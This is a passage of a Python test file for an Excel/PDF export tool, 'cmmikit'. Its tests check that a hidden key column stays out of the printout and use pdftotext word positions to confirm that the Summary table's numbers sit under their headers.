    assert exported["gone"].id not in ids and len(ids) > 10


def test_hidden_row_keys_never_print(exported):
    """The PA sheets' hidden key column (for import-xlsx) stays out of the printout and out of the page fit."""
    ws = exported["wb"]["WP"]
    key = next(c for c in ws[3] if c.value == "cmmikit key")
    assert ws.column_dimensions[key.column_letter].hidden and ws.cell(4, key.column).value.startswith("{")
    assert not any("cmmikit-gap-row" in text or "cmmikit key" in text for _, text, _ in exported["pages"])


def pdf_boxes(pdf: Path, page: int) -> list[tuple[float, float, float, str]]:
    """(xMin, xMax, yMin, word) of every word on one page of ``pdf``, as pdftotext -bbox reads it back."""
    import re

    xhtml = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), "-bbox", str(pdf), "-"],
                           capture_output=True, text=True, check=True).stdout
    return [(float(a), float(c), float(b), w) for a, b, c, w in
            re.findall(r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="[\d.]+">(.*?)</word>', xhtml)]


def test_printed_counts_sit_under_their_own_headers(exported):
    """On paper every number of the Summary's PA table ends where its (right-aligned) header ends."""
    words = pdf_boxes(exported["pdf"], 1)
    header_y = next(y for x0, _, y, w in words if w == "Readiness")
    ws = exported["wb"]["Summary"]
    (table,) = ws.tables.values()
    first = ws[table.ref.split(":")[0]]
    headers = [c.value for c in ws[first.row]][first.column - 1:]
    ma = next(r for r in ws.iter_rows(min_row=first.row + 1) if r[first.column - 1].value == "MA")
    row_y = min(y for x0, _, y, w in words if w == "MA" and x0 < 60 and y > header_y)
    row = [(x0, x1, w) for x0, x1, y, w in words if abs(y - row_y) < 2]
    checked = 0
    for header, cell in zip(headers, ma[first.column - 1:]):
        if not isinstance(cell.value, (int, float)) or header == "Goals":
            continue
        last_word = header.split()[-1]   # the header's right edge: its last word, on its last line
        (edge,) = [x1 for x0, x1, y, w in words if w == last_word and header_y - 10 < y < header_y + 12]
        shown = f"{cell.value:.0%}" if cell.number_format == "0%" else str(cell.value)
        under = min(row, key=lambda word: abs(word[1] - edge))
        assert under[2] == shown and abs(under[1] - edge) < 2, (header, shown, under, edge)
        checked += 1
    assert checked >= 12
